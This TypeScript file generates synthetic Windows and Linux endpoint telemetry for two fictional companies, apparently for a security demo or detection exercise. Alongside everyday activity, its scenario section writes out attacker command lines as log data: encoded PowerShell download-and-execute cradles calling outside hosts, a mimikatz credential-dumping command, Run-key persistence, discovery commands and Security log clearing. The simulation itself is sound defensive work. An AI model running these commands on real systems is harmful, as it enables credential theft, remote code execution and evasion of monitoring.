import { EndpointRecords, OFFICE, SYSTEM32 } from './endpoint-records';
import { SERVICES } from './internet';
import { THREATS, type DemoHost } from './scenario';
import { dayAt, HOUR, MINUTE, pastMoment } from './timeline';

/** PowerShell's -EncodedCommand: Base64 of the UTF-16LE script. */
export function encodePowerShell(script: string): string {
  return Buffer.from(script, 'utf16le').toString('base64');
}

/** Builds one customer's endpoint telemetry (Sysmon/Security as EVTX JSON, or ECS from an agent). */
export class EndpointGenerator extends EndpointRecords {
  // ——— Everyday activity ———

  /** Everyday work on every host until `count` records are made. */
  background(count: number): void {
    const start = this.lines.length;
    while (this.lines.length - start < count) {
      const host = this.random.pick(this.customer.hosts);
      const at = pastMoment(this.random, this.now);
      if (host.os === 'linux') this.linuxSession(host, at);
      else if (host.role === 'server') this.windowsServer(host, at);
      else this.workday(host, at);
    }
  }

  private workday(host: DemoHost, at: number): void {
    const owner = host.owner ?? 'administrator';
    const user = this.account(owner);
    this.record(host, at, {
      kind: 'logon',
      user,
      logonType: this.random.chance(0.7) ? 2 : 7,
      source: null,
      success: true,
    });
    const userinit = this.spawn(null, `${SYSTEM32}\\userinit.exe`, `${SYSTEM32}\\userinit.exe`, user);
    const explorer = this.spawn(userinit, 'C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE', user);
    let t = at + this.random.int(5, 30) * 1000;
    this.record(host, t, { kind: 'process', proc: explorer });
    const apps = this.random.int(2, 5);
    for (let i = 0; i < apps; i++) {
      t += this.random.int(1, 25) * MINUTE;
      const choice = this.random.weighted([
        ['chrome', 5],
        ['outlook', 4],
        ['excel', 2],
        ['word', 2],
        ['teams', 2],
        ['it', host.name.includes('-IT-') ? 4 : 0],
      ] as const);
      if (choice === 'chrome') {
        const chrome = this.spawn(
          explorer,
          'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
          '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"',
          user,
        );
        this.record(host, t, { kind: 'process', proc: chrome });
        const renderer = this.spawn(
          chrome,
          chrome.image,
          `"${chrome.image}" --type=renderer --lang=en-GB --renderer-client-id=${this.random.int(5, 40)}`,
          user,
        );
        this.record(host, t + 400, { kind: 'process', proc: renderer });
        const service = this.random.pick(SERVICES);
        this.record(host, t + 900, { kind: 'dns', proc: chrome, query: service.domain, answer: service.ip });
        this.record(host, t + 1100, {
          kind: 'network',
          proc: chrome,
          dest: service.ip,
          destPort: 443,
          srcPort: this.random.int(49152, 65535),
        });
        if (this.random.chance(0.3)) {
          const doc = this.random.pick([
            'Q4_rates.xlsx',
            'timesheet.pdf',
            'delivery_note.pdf',
            'agenda.docx',
            'invoice_scan.pdf',
          ]);
          this.record(host, t + 60_000, {
            kind: 'file',
            proc: chrome,
            path: `C:\\Users\\${owner}\\Downloads\\${doc}`,
            hashes: null,
          });
        }
      } else if (choice === 'outlook') {
        const outlook = this.spawn(explorer, `${OFFICE}\\OUTLOOK.EXE`, `"${OFFICE}\\OUTLOOK.EXE"`, user);
        this.record(host, t, { kind: 'process', proc: outlook });
        this.record(host, t + 2000, {
          kind: 'network',
          proc: outlook,
          dest: '52.97.146.162',
          destPort: 443,
          srcPort: this.random.int(49152, 65535),
        });
      } else if (choice === 'excel' || choice === 'word') {
        const exe = choice === 'excel' ? 'EXCEL.EXE' : 'WINWORD.EXE';
        const doc =
          choice === 'excel'
            ? `C:\\Users\\${owner}\\Documents\\budget_${this.random.int(2024, 2026)}.xlsx`
            : `C:\\Users\\${owner}\\Documents\\letter_${this.random.int(100, 999)}.docx`;
        const office = this.spawn(explorer, `${OFFICE}\\${exe}`, `"${OFFICE}\\${exe}" "${doc}"`, user);
        this.record(host, t, { kind: 'process', proc: office });
        this.record(host, t + this.random.int(2, 30) * MINUTE, { kind: 'file', proc: office, path: doc, hashes: null });
      } else if (choice === 'teams') {
        const teams = this.spawn(
          explorer,
          `C:\\Users\\${owner}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe`,
          `"C:\\Users\\${owner}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe" --process-start-type=autostart`,
          user,
        );
        this.record(host, t, { kind: 'process', proc: teams });
        this.record(host, t + 500, {
          kind: 'registry',
          proc: teams,
          key: `HKU\\S-1-5-21-3623811015-3361044348-30300820-1104\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\com.squirrel.Teams.Teams`,
          details: `C:\\Users\\${owner}\\AppData\\Local\\Microsoft\\Teams\\Update.exe --processStart "Teams.exe"`,
        });
        this.record(host, t + 1500, {
          kind: 'network',
          proc: teams,
          dest: '52.113.194.132',
          destPort: 443,
          srcPort: this.random.int(49152, 65535),
        });
      } else {
        const cmd = this.spawn(explorer, `${SYSTEM32}\\cmd.exe`, `"${SYSTEM32}\\cmd.exe"`, user);
        this.record(host, t, { kind: 'process', proc: cmd });
        const command = this.random.pick([
          'ipconfig /all',
          'nslookup nw-dc-01',
          'ping -n 2 10.20.10.12',
          'gpupdate /force',
        ]);
        const [exe] = command.split(' ');
        this.record(host, t + 4000, {
          kind: 'process',
          proc: this.spawn(cmd, `${SYSTEM32}\\${exe}.exe`, command, user),
        });
        if (this.random.chance(0.5)) {
          const ps = this.spawn(
            explorer,
            `${SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe`,
            '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoExit -Command Get-ADUser -Filter * -SearchBase "OU=Staff,DC=corp"',
            user,
          );
          this.record(host, t + 9000, { kind: 'process', proc: ps });
        }
      }
    }
  }

  private windowsServer(host: DemoHost, at: number): void {
    const services = this.root(host);
    const choice = this.random.weighted([
      ['logon', 4],
      ['svchost', 3],
      ['update', 1],
    ] as const);
    if (choice === 'logon') {
      const client = this.random.pick(this.customer.hosts.filter((h) => h.role === 'workstation'));
      this.record(host, at, {
        kind: 'logon',
        user: this.account(client.owner ?? 'administrator'),
        logonType: 3,
        source: client.ip,
        success: true,
      });
    } else if (choice === 'svchost') {
      const group = this.random.pick([
        'netsvcs -p -s Schedule',
        'LocalServiceNetworkRestricted -p -s EventLog',
        'NetworkService -p -s Dnscache',
        'wusvcs -p -s WaaSMedicSvc',
      ]);
      const svc = this.spawn(
        services,
        `${SYSTEM32}\\svchost.exe`,
        `C:\\Windows\\system32\\svchost.exe -k ${group}`,
        'NT AUTHORITY\\SYSTEM',
      );
      this.record(host, at, { kind: 'process', proc: svc });
    } else {
      const tiworker = this.spawn(
        services,
        'C:\\Windows\\WinSxS\\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.20348.2700_none_1c3b3f1e3c9bb1f0\\TiWorker.exe',
        'C:\\Windows\\winsxs\\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.20348.2700_none_1c3b3f1e3c9bb1f0\\TiWorker.exe -Embedding',
        'NT AUTHORITY\\SYSTEM',
      );
      this.record(host, at, { kind: 'process', proc: tiworker });
      this.record(host, at + 30_000, {
        kind: 'network',
        proc: tiworker,
        dest: '13.107.4.50',
        destPort: 80,
        srcPort: this.random.int(49152, 65535),
      });
    }
  }

  private linuxSession(host: DemoHost, at: number): void {
    const systemd = this.root(host);
    if (this.random.chance(0.5)) {
      const cron = this.spawn(systemd, '/usr/sbin/cron', '/usr/sbin/cron -f -P', 'root');
      const job = this.random.pick([
        ['/usr/sbin/logrotate', '/usr/sbin/logrotate /etc/logrotate.conf'],
        ['/usr/bin/pg_dump', 'pg_dump -Fc -f /var/backups/app.dump app'],
        ['/usr/bin/certbot', 'certbot renew --quiet'],
      ] as const);
      this.record(host, at, { kind: 'process', proc: this.spawn(cron, job[0], job[1], 'root') });
      return;
    }
    const admin = this.random.pick(this.customer.hosts.filter((h) => h.name.includes('-IT-')));
    const account = admin.owner ?? 'admin';
    this.record(host, at, { kind: 'logon', user: account, logonType: 10, source: admin.ip, success: true });
    const sshd = this.spawn(systemd, '/usr/sbin/sshd', `sshd: ${account} [priv]`, 'root');
    const bash = this.spawn(sshd, '/usr/bin/bash', '-bash', account);
    this.record(host, at + 800, { kind: 'process', proc: bash });
    const [exe, line] = this.random.pick([
      ['/usr/bin/sudo', 'sudo systemctl restart nginx'],
      ['/usr/bin/sudo', 'sudo apt-get upgrade -y'],
      ['/usr/bin/journalctl', 'journalctl -u postgresql --since today'],
      ['/usr/bin/df', 'df -h'],
    ] as const);
    const proc = this.spawn(bash, exe, line, account);
    this.record(host, at + 5000, { kind: 'process', proc });
    if (line.includes('apt-get')) {
      this.record(host, at + 9000, {
        kind: 'network',
        proc,
        dest: '91.189.91.81',
        destPort: 80,
        srcPort: this.random.int(32768, 60999),
      });
    }
  }

  // ——— The story ———

  scenario(): void {
    if (this.customer.key === 'northwind') this.northwind();
    else this.aurora();
  }

  private northwind(): void {
    // Day -3, 09:17: j.miller opens the invoice from Outlook; Word drops and starts the loader.
    const host = this.host('NW-WS-017');
    const user = this.account('j.miller');
    const t = dayAt(this.now, 3, 9, 17);
    const explorer = this.spawn(null, 'C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE', user);
    const outlook = this.spawn(explorer, `${OFFICE}\\OUTLOOK.EXE`, `"${OFFICE}\\OUTLOOK.EXE"`, user);
    const docPath = `C:\\Users\\j.miller\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q7ZK2M4P\\Invoice_INV-88231.doc`;
    const doc = this.file('Invoice_INV-88231.doc');
    this.record(host, t - 40_000, { kind: 'file', proc: outlook, path: docPath, hashes: doc });
    const word = this.spawn(outlook, `${OFFICE}\\WINWORD.EXE`, `"${OFFICE}\\WINWORD.EXE" /n "${docPath}" /o ""`, user);
    this.record(host, t, { kind: 'process', proc: word });
    this.record(host, t + 30_000, { kind: 'dns', proc: word, query: THREATS.c2Domain, answer: THREATS.c2Ip });
    const dllPath = 'C:\\Users\\j.miller\\AppData\\Roaming\\Microsoft\\Office\\msoffsync.dll';
    this.record(host, t + 44_000, { kind: 'file', proc: word, path: dllPath, hashes: this.file('msoffsync.dll') });
    const rundll = this.spawn(word, `${SYSTEM32}\\rundll32.exe`, `rundll32.exe ${dllPath},DllRegisterServer`, user);
    this.record(host, t + 46_000, { kind: 'process', proc: rundll });
    this.record(host, t + 47_000, {
      kind: 'registry',
      proc: rundll,
      key: 'HKU\\S-1-5-21-3623811015-3361044348-30300820-1117\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\MsOffSync',
      details: `rundll32.exe ${dllPath},DllRegisterServer`,
    });
    this.record(host, t + 3 * MINUTE, {
      kind: 'network',
      proc: rundll,
      dest: THREATS.c2Ip,
      destPort: 443,
      srcPort: 51544,
    });
    // Discovery from the beacon an hour later.
    const cmd = this.spawn(
      rundll,
      `${SYSTEM32}\\cmd.exe`,
      'C:\\Windows\\system32\\cmd.exe /c whoami /all & net group "Domain Admins" /domain',
      user,
    );
    this.record(host, t + HOUR, { kind: 'process', proc: cmd });
    this.record(host, t + HOUR + 900, {
      kind: 'process',
      proc: this.spawn(cmd, `${SYSTEM32}\\whoami.exe`, 'whoami  /all', user),
    });
    this.record(host, t + HOUR + 2100, {
      kind: 'process',
      proc: this.spawn(cmd, `${SYSTEM32}\\net.exe`, 'net  group "Domain Admins" /domain', user),
    });
    // Day -2: with j.miller's credentials onto the file server, and mimikatz.
    const fs = this.host('NW-SRV-FS01');
    const lateral = dayAt(this.now, 2, 3, 41);
    this.record(fs, lateral, { kind: 'logon', user, logonType: 3, source: host.ip, success: true });
    const services = this.root(fs);
    const ps = this.spawn(
      services,
      `${SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe`,
      'powershell.exe -NoP -NonI -C "iwr http://10.20.1.17:8080/m.exe -OutFile C:\\Windows\\Temp\\mimikatz.exe"',
      user,
    );
    this.record(fs, lateral + 20_000, { kind: 'process', proc: ps });
    const mimi = this.file('mimikatz.exe');
    this.record(fs, lateral + 31_000, {
      kind: 'file',
      proc: ps,
      path: 'C:\\Windows\\Temp\\mimikatz.exe',
      hashes: mimi,
    });
    this.record(fs, lateral + 40_000, {
      kind: 'process',
      proc: this.spawn(
        ps,
        'C:\\Windows\\Temp\\mimikatz.exe',
        'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
        user,
        mimi,
      ),
    });
    // Before leaving, the intruder clears the file server's Security log.
    this.record(fs, lateral + 6 * MINUTE, {
      kind: 'process',
      proc: this.spawn(ps, `${SYSTEM32}\\wevtutil.exe`, 'wevtutil.exe cl Security', user),
    });

    // Day -5, 14:02: g.okafor's machine runs an encoded PowerShell download cradle from cmd.
    const okafor = this.host('NW-WS-023');
    const ou = this.account('g.okafor');
    const c = dayAt(this.now, 5, 14, 2) - 20_000;
    const exp = this.spawn(null, 'C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE', ou);
    const shell = this.spawn(
      exp,
      `${SYSTEM32}\\cmd.exe`,
      '"C:\\Windows\\system32\\cmd.exe" /c start /min powershell',
      ou,
    );
    this.record(okafor, c, { kind: 'process', proc: shell });
    const script = `IEX (New-Object Net.WebClient).DownloadString('${THREATS.stagerUrl}')`;
    const cradle = this.spawn(
      shell,
      `${SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe`,
      `powershell.exe -NoP -W Hidden -Enc ${encodePowerShell(script)}`,
      ou,
    );
    this.record(okafor, c + 4000, { kind: 'process', proc: cradle });
    this.record(okafor, c + 19_000, {
      kind: 'network',
      proc: cradle,
      dest: THREATS.stagerIp,
      destPort: 80,
      srcPort: 50212,
    });
    this.record(okafor, c + 3 * MINUTE, {
      kind: 'network',
      proc: cradle,
      dest: THREATS.teamServerIp,
      destPort: 80,
      srcPort: 50219,
    });
  }

  private aurora(): void {
    // Day -2: o.ivanova downloads "lab results" with Chrome and runs them from Explorer.
    const host = this.host('AC-LAB-02');
    const user = this.account('o.ivanova');
    const t = dayAt(this.now, 2, 10, 36);
    const explorer = this.spawn(null, 'C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE', user);
    const chrome = this.spawn(
      explorer,
      'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
      '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"',
      user,
    );
    this.record(host, t - 2000, { kind: 'dns', proc: chrome, query: THREATS.payloadDomain, answer: THREATS.payloadIp });
    const exe = this.file('Lab_Results_2291.pdf.exe');
    const path = 'C:\\Users\\o.ivanova\\Downloads\\Lab_Results_2291.pdf.exe';
    this.record(host, t + 3000, { kind: 'file', proc: chrome, path, hashes: exe });
    const stealer = this.spawn(explorer, path, `"${path}"`, user, exe);
    this.record(host, t + 2 * MINUTE, { kind: 'process', proc: stealer });
    this.record(host, t + 2 * MINUTE + 5000, {
      kind: 'network',
      proc: stealer,
      dest: THREATS.payloadIp,
      destPort: 80,
      srcPort: 52011,
    });
    this.record(host, t + 2 * MINUTE + 9000, {
      kind: 'file',
      proc: stealer,
      path: 'C:\\Users\\o.ivanova\\AppData\\Local\\Temp\\chrome_LoginData.tmp',
      hashes: null,
    });

    // Day -6: password guessing on the remote desktop server, one success, then the team server.
    const rds = this.host('AC-RDS-01');
    const g = dayAt(this.now, 6, 2, 10);
    for (let i = 0; i < 24; i++) {
      const account = this.random.pick(['administrator', 'admin', 'svc_backup', 'scanner', 'reception']);
      this.record(rds, g + i * 20_000, {
        kind: 'logon',
        user: this.account(account),
        logonType: 3,
        source: THREATS.scanners[1],
        success: false,
      });
    }
    this.record(rds, g + 24 * 20_000, {
      kind: 'logon',
      user: this.account('svc_backup'),
      logonType: 10,
      source: THREATS.scanners[1],
      success: true,
    });
    const services = this.root(rds);
    const ps = this.spawn(
      services,
      `${SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe`,
      `powershell.exe -NoP -W Hidden -Enc ${encodePowerShell("$c=New-Object Net.WebClient;IEX $c.DownloadString('http://203.0.113.66/jquery-3.3.1.min.js')")}`,
      this.account('svc_backup'),
    );
    this.record(rds, g + 45 * MINUTE, { kind: 'process', proc: ps });
    this.record(rds, g + 50 * MINUTE, {
      kind: 'network',
      proc: ps,
      dest: THREATS.teamServerIp,
      destPort: 80,
      srcPort: 61022,
    });

    // Day -8: reception installs AnyDesk against policy.
    const rec = this.host('AC-REC-01');
    const r = dayAt(this.now, 8, 13, 20);
    const ru = this.account('h.carter');
    const exp2 = this.spawn(null, 'C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE', ru);
    const chrome2 = this.spawn(
      exp2,
      'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
      '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"',
      ru,
    );
    const anydesk = this.file('AnyDesk.exe');
    const anyPath = 'C:\\Users\\h.carter\\Downloads\\AnyDesk.exe';
    this.record(rec, r, { kind: 'file', proc: chrome2, path: anyPath, hashes: anydesk });
    this.record(rec, r + MINUTE, { kind: 'process', proc: this.spawn(exp2, anyPath, `"${anyPath}"`, ru, anydesk) });

    // Day -4: s.adeyemi's browser looks up the credential-phishing page.
    const adm = this.host('AC-ADM-03');
    const au = this.account('s.adeyemi');
    const exp3 = this.spawn(null, 'C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE', au);
    const edge = this.spawn(
      exp3,
      'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe',
      '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --single-argument https://sec-verify-portal.top/o365/login.php?u=s.adeyemi',
      au,
    );
    const click = dayAt(this.now, 4, 15, 3);
    this.record(adm, click - 500, { kind: 'process', proc: edge });
    this.record(adm, click, { kind: 'dns', proc: edge, query: THREATS.phishDomain, answer: '192.0.2.160' });
  }
}
